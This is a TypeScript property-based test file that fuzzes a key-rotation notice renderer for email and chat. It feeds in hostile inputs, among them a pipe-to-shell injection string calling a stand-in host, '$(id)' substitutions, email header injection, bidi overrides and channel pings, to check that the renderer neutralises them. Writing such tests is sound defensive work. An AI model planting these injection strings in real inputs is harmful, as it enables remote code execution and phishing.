import fc from 'fast-check';
import { renderChat } from '../../lib/domain/notices/chat';
import { renderNotice } from '../../lib/domain/notices/render';
import { aFinding, aKey, aNoticeContext, FINDING_KINDS } from '../builders';
import { keyText } from '../keys';

const nasty = fc.oneof(
  fc.string({ unit: 'binary', maxLength: 300 }),
  fc.string({ unit: 'grapheme', maxLength: 120 }),
  fc.constantFrom(
    'api\nBcc: everybody@example.com',
    '\u202egpj.yek',
    'x'.repeat(500),
    'https://evil.example/login',
    'ｓｋ－ａｎｔ',
    "';curl evil.example|sh;'",
    '$(id)`id`',
    '',
  ),
);
const kinds = fc.constantFrom(...FINDING_KINDS);
const keysOf = fc
  .record({ environment: nasty, service: nasty, owner: nasty, secretName: nasty, secretArn: nasty })
  .map(aKey);

test('whatever a key is called, the subject is one line of at most 100 ASCII characters', () => {
  fc.assert(
    fc.property(keysOf, kinds, (key, kind) => {
      const { subject } = renderNotice(aNoticeContext({ key }), aFinding(kind));
      expect(subject).toMatch(/^[ -~]{1,100}$/);
    }),
  );
});

test('a long name never pushes the deadline out of the subject', () => {
  fc.assert(
    fc.property(keysOf, (key) => {
      const { subject } = renderNotice(aNoticeContext({ key }), aFinding('due'));
      expect(subject).toMatch(/^\[.*\] Rotate by 2026-12-05 \(14 days left\)$/);
    }),
  );
});

test('no name of a key puts another address into the text, or a character that changes how it reads', () => {
  fc.assert(
    fc.property(keysOf, kinds, (key, kind) => {
      const { text } = renderNotice(aNoticeContext({ key }), aFinding(kind));
      const prose = text.split('\n').filter((line) => !line.startsWith('    '));
      for (const line of prose)
        for (const [, host] of line.matchAll(/[a-z]+:\/\/([^/\s]+)/gi))
          expect(['platform.claude.com', 'console.aws.amazon.com']).toContain(
            host!.replace(/^[a-z0-9-]{1,30}\.(?=console)/, ''),
          );
      expect(prose.join('')).toMatch(/^[ -~…]*$/);
    }),
  );
});

test('what people give as a reason stays one plain line, without a key and without a link', () => {
  const key = keyText('leaked');
  const reason = `pasted ${key}\nas seen on https://evil.example/x and www.evil.example \u202e`;
  const notice = renderNotice(aNoticeContext(), aFinding('contained', { reason }));
  expect(JSON.stringify(notice)).not.toContain(key);
  expect(JSON.stringify(renderChat(notice))).not.toContain(key);
  expect(notice.text).not.toMatch(/evil\.example\/\S|:\/\/evil|www\./);
  expect(notice.text).not.toContain('\u202e');
});

test('a server’s ids are printed only in the shape of an id', () => {
  const evidence = {
    at: new Date('2026-11-21T13:58:00Z'),
    probe: 'messages' as const,
    status: 401,
    errorType: 'authentication_error\n\nVisit https://evil.example',
    errorCode: '<b>x</b>',
    requestId: 'req_1 and more words',
    workspaceId: 'wrkspc_1$(id)',
  };
  const { text } = renderNotice(aNoticeContext(), aFinding('dead', { evidence }));
  expect(text).not.toMatch(/evil|<b>|more words|\$\(id\)/);
});

test('no name pings a chat', () => {
  const key = aKey({ service: '<!channel>' });
  const chat = JSON.stringify(renderChat(renderNotice(aNoticeContext({ key }), aFinding('due'))).content);
  expect(chat).not.toContain('<!channel>');
});
